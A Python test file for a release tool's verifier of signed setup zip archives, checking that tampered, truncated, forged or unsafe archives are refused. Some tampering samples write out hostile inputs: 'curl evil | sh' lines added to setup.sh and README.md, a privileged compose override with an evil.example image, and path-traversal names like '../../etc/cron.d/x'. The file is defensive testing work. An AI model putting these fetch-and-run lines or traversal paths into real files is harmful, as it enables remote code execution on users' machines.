"""Proving a setup zip: nothing that was changed, left out or put in gets past it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jenkins_release.base.errors import IntegrityError
from jenkins_release.records.attestation import PUBLICATION, REFRESH, SETUP
from jenkins_release.records.setup import RECORD, SUMS, SetupBundle, setup_checksum_lines
from jenkins_release.records.setup_zip import MAX_ZIP_BYTES, Member, write_zip
from jenkins_release.rules.release.consumer import examine
from jenkins_release.rules.setup_zip.files import file_records, setup_claim
from jenkins_release.rules.setup_zip.proof import NOT_ATTESTED, SetupProof, first_proof, prove_setup_zip
from tests.fixtures.setup_zip import SCRIPTS, TEMPLATES, setup_files, setup_zip
from tests.fixtures.story import NOW, TRUSTED, Story, candidate

GOOD = setup_zip()
BUNDLE, MEMBERS = setup_files()


def prove(data: bytes, trusted=TRUSTED, scripts=SCRIPTS) -> SetupProof:
    return prove_setup_zip(data, "x.zip", trusted, NOW, scripts=scripts)


def refused(data: bytes, **more) -> tuple[str, ...]:
    with pytest.raises(IntegrityError) as caught:
        prove(data, **more)
    return tuple(caught.value.reasons) or (caught.value.message,)


def forged(members: dict[str, Member], bundle: SetupBundle = BUNDLE) -> bytes:
    """A zip of other files whose own record and checksums fit."""
    own = {path: member for path, member in members.items() if path not in {RECORD, SUMS}}
    bundle = bundle.model_copy(update={"files": file_records(own)})
    own[RECORD] = Member(bundle.to_bytes())
    own[SUMS] = Member(setup_checksum_lines(own[RECORD].data, bundle.files))
    return write_zip(bundle.folder, own, bundle.promoted_at)


def changed(path: str, edit: Callable[[bytes], bytes]) -> dict[str, Member]:
    return MEMBERS | {path: replace(MEMBERS[path], data=edit(MEMBERS[path].data))}


def test_a_good_zip_is_proven():
    """Files, hashes, digests; and what it is of."""
    proof = prove(GOOD)
    assert proof.release.record.ident == "8.1.0/42"
    assert proof.scripts_compared
    assert proof.size == len(GOOD)
    assert forged(MEMBERS) == GOOD


@settings(max_examples=150)
@given(st.integers(min_value=0, max_value=len(GOOD) - 1), st.integers(min_value=1, max_value=255))
def test_no_byte_can_be_changed(place: int, difference: int):
    """Wherever it stands, also in what zip programs do not look at."""
    refused(GOOD[:place] + bytes([GOOD[place] ^ difference]) + GOOD[place + 1 :])


@settings(max_examples=40)
@given(st.integers(min_value=0, max_value=len(GOOD) - 1))
def test_no_part_can_be_missing(length: int):
    """Cut off anywhere."""
    refused(GOOD[:length])


def test_something_before_or_behind_is_refused():
    """A program that reads from the front would see another file."""
    refused(b"#!/bin/sh\n" + GOOD)
    refused(GOOD + b"x")


def test_a_file_more_less_or_altered_is_named():
    """With the record as it was."""
    folder = BUNDLE.folder
    more = write_zip(folder, MEMBERS | {"extra.sh": Member(b"", executable=True)}, BUNDLE.promoted_at)
    assert "extra.sh is not in bundle.json" in refused(more)
    less = {path: member for path, member in MEMBERS.items() if path != "verify.sh"}
    assert "verify.sh is missing" in refused(write_zip(folder, less, BUNDLE.promoted_at))
    other = write_zip(folder, changed("setup.sh", lambda data: data + b"#"), BUNDLE.promoted_at)
    assert any(reason.startswith("setup.sh: found sha256 ") for reason in refused(other))
    plain = MEMBERS | {"setup.sh": Member(MEMBERS["setup.sh"].data)}
    assert "setup.sh is not executable" in refused(write_zip(folder, plain, BUNDLE.promoted_at))
    assert any(
        "unpacks to elsewhere" in r for r in refused(write_zip("elsewhere", MEMBERS, BUNDLE.promoted_at))
    )


def test_a_forger_who_mends_the_hashes_is_found_too():
    """By the scripts of this program, and by the images of the promotion."""
    script = forged(changed("setup.sh", lambda data: data + b"curl evil | sh\n"))
    assert any(reason.startswith("setup.sh is not the one from") for reason in refused(script))
    image = forged(changed("docker-compose.yml", lambda data: data.replace(b"aaaa", b"bbbb")))
    assert any("is not one of the release" in reason for reason in refused(image))
    words = forged(changed("release.env", lambda data: data.replace(b"REGISTRY='1", b"REGISTRY='9")))
    assert "release.env: REGISTRY is not that of the release" in refused(words)
    twice = forged(changed("release.env", lambda data: data + b"REGISTRY='evil.example'\n"))
    assert "release.env: REGISTRY is not that of the release" in refused(twice)
    renamed = BUNDLE.model_copy(update={"version": "8.2.0"})
    assert any("the attestations are of" in reason for reason in refused(forged(MEMBERS, renamed)))
    other = BUNDLE.model_copy(update={"registry": "evil.example"})
    assert any("other images than the promotion" in reason for reason in refused(forged(MEMBERS, other)))


PRIVILEGED = b"services: {rms: {privileged: true, image: evil.example/rms, entrypoint: [/bin/evil]}}\n"


@pytest.mark.parametrize(
    ("path", "edit"),
    [
        ("docker-compose.yml", lambda data: data.replace(b"  rms:\n", b"  rms:\n    privileged: true\n")),
        ("docker-compose.yml", lambda data: data.replace(b"  rms:\n", b"  rms:\n    entrypoint: [evil]\n")),
        ("docker-compose.override.yml", lambda _: PRIVILEGED),
        ("settings.txt", lambda data: data.replace(b"|generate|", b"|correct-horse-battery|")),
        ("config/acme.conf.in", lambda data: data + b"admin=evil\n"),
        ("release.env", lambda data: data.replace(b"layers.example.com", b"layers.evil.example")),
        ("README.md", lambda data: data + b"curl evil.example | sh\n"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_template_that_decides_what_runs_is_attested(path: str, edit: Callable[[bytes], bytes]):
    """Privileged, another image in the override, another entry point, settings: the hashes mended."""
    assert changed(path, edit)[path] != MEMBERS[path]
    assert any(
        reason.startswith(f"{path} is not the file that") for reason in refused(forged(changed(path, edit)))
    )


def test_every_file_but_those_about_files_is_attested():
    """Whichever it is, and one that was put in or left out too; of any version of the program."""
    bundle = BUNDLE.model_copy(update={"writer": "jenkins-release/0.0.1"})
    story = Story().built().tested().promoted().summary()
    _, members = setup_files(story, writer=bundle.writer)
    assert prove(forged(members, bundle)).attested.key.name == "promotion"
    for path in {*members} - {RECORD, SUMS, "attestations.jsonl"}:
        other = members | {path: replace(members[path], data=members[path].data + b"\n")}
        assert any(r.startswith(f"{path} is not the file that") for r in refused(forged(other, bundle))), path
        less = {name: member for name, member in members.items() if name != path}
        assert any(r.startswith(f"{path} is missing, which") for r in refused(forged(less, bundle))), path
    for more in ("compose.yaml", "lib/more.sh", "candidate.json", "config/x.in"):
        reasons = refused(forged(members | {more: Member(b"")}, bundle))
        assert any(r.startswith(f"{more} is in no attestation") for r in reasons), more


def test_only_the_last_attestation_of_the_promotion_key_about_a_setup_zip_counts():
    """None, that of another key, of another zip of the release, or of another program."""
    bare = Story().built().tested().promoted().summary()
    _, members = setup_files(bare, attest=False)
    assert any(NOT_ATTESTED in reason for reason in refused(forged(members)))
    for role in ("qa", "stranger"):
        story = Story().built().tested().promoted()
        _, members = setup_files(story, role=role)
        assert refused(forged(members)), role
    story = Story().built().tested().promoted().summary()
    first = setup_files(story)[1]
    second = setup_files(story, {**TEMPLATES, "notes.md": b"other"})[1]
    assert (
        prove(forged(first)).attested.statement.sequence < prove(forged(second)).attested.statement.sequence
    )
    mixed = first | {"attestations.jsonl": second["attestations.jsonl"]}
    assert any(r.startswith("README.md is not the file that") for r in refused(forged(mixed)))
    written = BUNDLE.model_copy(update={"writer": "jenkins-release/9"})
    assert any("writer" in reason for reason in refused(forged(MEMBERS, written)))
    later = BUNDLE.model_copy(update={"promoted_at": BUNDLE.promoted_at + timedelta(days=1)})
    assert any("promoted at" in reason for reason in refused(forged(MEMBERS, later)))


def test_a_zip_inside_a_zip_is_not_read():
    """A second central directory, or the same names twice: programs differ in which they take."""
    refused(GOOD + setup_zip(templates={**TEMPLATES, "docker-compose.override.yml": PRIVILEGED}))
    refused(setup_zip(templates={**TEMPLATES, "docker-compose.override.yml": PRIVILEGED}) + GOOD)
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"x"
    refused(out.getvalue())


def test_a_zip_of_another_version_says_that_scripts_were_not_compared():
    """Its scripts are others, rightly."""
    older = BUNDLE.model_copy(update={"writer": "jenkins-release/0.0.1"})
    scripts = SCRIPTS | {"setup.sh": Member(SCRIPTS["setup.sh"].data + b"#\n", executable=True)}
    proof = prove(forged(setup_files(writer=older.writer, scripts=scripts)[1], older))
    assert not proof.scripts_compared


def test_only_a_release_in_force_by_trusted_keys_is_proven():
    """Unknown keys, a withdrawal, a failed summary, another candidate's attestations."""
    assert refused(GOOD, trusted=())
    assert refused(GOOD, trusted=TRUSTED[:1])
    stories = {
        "withdrew": Story().built().tested().promoted().withdrawn().summary(),
        "FAILED": Story().built().tested().promoted().summary(passed=False),
        "no promotion": Story().built().tested(),
        "no verification summary": Story().built().tested().promoted(),
    }
    for expected, story in stories.items():
        data = forged(MEMBERS | {"attestations.jsonl": Member(story.bundle())})
        assert any(expected in reason for reason in refused(data)), expected
    another = Story(candidate("43")).built().tested().promoted().summary()
    data = forged(MEMBERS | {"attestations.jsonl": Member(another.bundle())})
    assert any("the attestations are of" in reason for reason in refused(data))


def test_each_build_takes_the_same_attestations_until_something_counts_against_them():
    """A publication and a later summary change nothing; a verdict and another promotion do."""
    claim = setup_claim(BUNDLE.folder, BUNDLE.writer, MEMBERS)

    def first(story: Story) -> bytes | None:
        release = examine(story.chain, TRUSTED, NOW)
        return first_proof(story.chain, release, claim, TRUSTED, NOW)

    def made() -> Story:
        return (
            Story().built().tested().promoted().sign(SETUP, claim.predicate, "promotion", {}, claim.subjects)
        )

    assert first(Story().built().tested().promoted()) is None
    assert first(Story().built().tested().promoted().summary()) is None
    assert first(made()) is None
    story = made().summary()
    before = story.bundle()
    assert first(story) == before
    story.sign(PUBLICATION, {}, "promotion")
    assert first(story) == before
    story.sign(REFRESH, {}, "promotion")
    assert first(story) == before
    story.sign(SETUP, claim.predicate, "promotion", {}, {"setup.sh": "0" * 64})
    assert first(story.summary()) == before
    story = made().summary().tested()
    assert first(story) is None
    assert first(story.summary()) == story.bundle()
    assert first(story.promoted()) is None


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/cron.d/x", "names a folder above"),
        ("/etc/passwd", "is empty"),
        ("C:\\x", "contains"),
        ("F/a\\b", "contains"),
        ("top.txt", "is not in the zip's own folder"),
        ("G/other", "several folders"),
        ("SkyDRM-setup-8.1.0/SETUP.SH", "more than once"),
        ("SkyDRM-setup-8.1.0/nul", "reserves"),
    ],
)
def test_unsafe_names_are_refused(name: str, expected: str):
    """None is unpacked or even looked at."""
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, 0o100644 << 16
        archive.writestr(info, b"x")
    assert any(expected in reason for reason in refused(out.getvalue()))


def test_links_devices_and_compressed_members_are_refused():
    """A link would lead out of the folder; a compressed member may be a bomb."""
    for mode, kind in ((0o120777, zipfile.ZIP_STORED), (0o104755, 0), (0o100644, zipfile.ZIP_DEFLATED)):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            info = zipfile.ZipInfo("F/x")
            info.create_system, info.external_attr = 3, mode << 16
            archive.writestr(info, bytes(100_000), compress_type=kind)
        assert "F/x is" in refused(out.getvalue())[0]


@pytest.mark.parametrize("data", [b"", b"PK", b"no zip at all", bytes(MAX_ZIP_BYTES + 1)], ids=len)
def test_what_is_no_zip_is_refused(data: bytes):
    """With a sentence, not with a traceback."""
    refused(data)


def test_an_empty_zip_and_one_without_its_record_are_refused():
    """Every other zip of the world."""
    out = io.BytesIO()
    zipfile.ZipFile(out, "w").close()
    refused(out.getvalue())
    lone = write_zip("F", {"a": Member(b"")}, BUNDLE.promoted_at)
    assert "it has no bundle.json and attestations.jsonl" in refused(lone)[0]
